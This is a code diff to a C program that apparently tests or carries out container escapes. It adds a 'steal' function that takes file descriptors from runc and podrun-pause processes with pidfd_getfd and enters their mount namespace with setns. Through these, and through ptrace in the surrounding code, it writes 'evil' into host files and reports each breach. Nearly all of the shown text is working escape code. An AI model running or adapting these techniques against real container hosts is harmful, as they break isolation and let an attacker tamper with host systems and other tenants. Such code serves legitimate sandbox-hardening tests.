@@ -6,6 +6,7 @@
 #include <dirent.h>
 #include <fcntl.h>
 #include <poll.h>
+#include <sched.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -39,6 +40,35 @@ static void write_below(int pid, const char *dir) {
 	if (write(fd, "evil", 4) == 4)
 		got("the host's file");
 	close(fd);
+}
+
+// steal takes descriptors of a process, and goes into its mount namespace.
+static void steal(int pid) {
+	char path[8192];
+	int pidfd = syscall(SYS_pidfd_open, pid, 0);
+	for (int fd = 0; pidfd >= 0 && fd < 32; fd++) {
+		int own = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
+		if (own < 0)
+			continue;
+		snprintf(path, sizeof path, "fd/%d", own);
+		write_below(getpid(), path);
+		close(own);
+	}
+	snprintf(path, sizeof path, "/proc/%d/ns/mnt", pid);
+	int ns = open(path, O_RDONLY);
+	if ((pidfd >= 0 || ns >= 0) && fork() == 0) {
+		if (setns(pidfd, CLONE_NEWNS) == 0 || setns(ns, CLONE_NEWNS) == 0) {
+			int fd = open(file, O_WRONLY);
+			if (fd >= 0 && write(fd, "evil", 4) == 4)
+				got("the host's file, in the mount namespace");
+		}
+		fflush(stdout);
+		_exit(0);
+	}
+	while (waitpid(-1, NULL, 0) > 0)
+		;
+	close(ns);
+	close(pidfd);
 }
 
 static int holds(int pid) {
@@ -102,6 +132,8 @@ static void attack(const char *number) {
 	if (*its && strcmp(own, its) && !strcmp(comm, "podrun-pause")) // of others only who has the host's processes
 		got("sight of another network's devices");
 	reach(pid);
+	if (!strncmp(comm, "runc:", 5) || !strcmp(comm, "podrun-pause"))
+		steal(pid);
 	if (ptrace(PTRACE_SEIZE, pid, 0, 0) < 0)
 		return;
 	ptrace(PTRACE_INTERRUPT, pid, 0, 0);
